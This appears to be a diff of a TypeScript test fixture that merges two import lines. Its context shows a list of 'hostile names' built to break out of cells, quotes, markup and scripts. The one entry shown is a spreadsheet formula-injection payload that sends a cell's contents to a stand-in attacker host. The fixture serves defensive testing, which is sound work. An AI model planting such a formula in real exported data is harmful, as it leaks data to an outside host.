@@ -1,6 +1,5 @@
 // A graph whose names try to leave the place they are written to: cells, quotes, lines, markup, scripts, addresses.
-import { baseMcf, node } from '../statistics/read/support/folders.ts'
-import type { Files } from '../statistics/read/support/folders.ts'
+import { baseMcf, type Files, node } from '../statistics/read/support/folders.ts'
 
 export const hostileNames: ReadonlyArray<string> = [
   '=HYPERLINK("http://evil.example?"&A1,"click")',
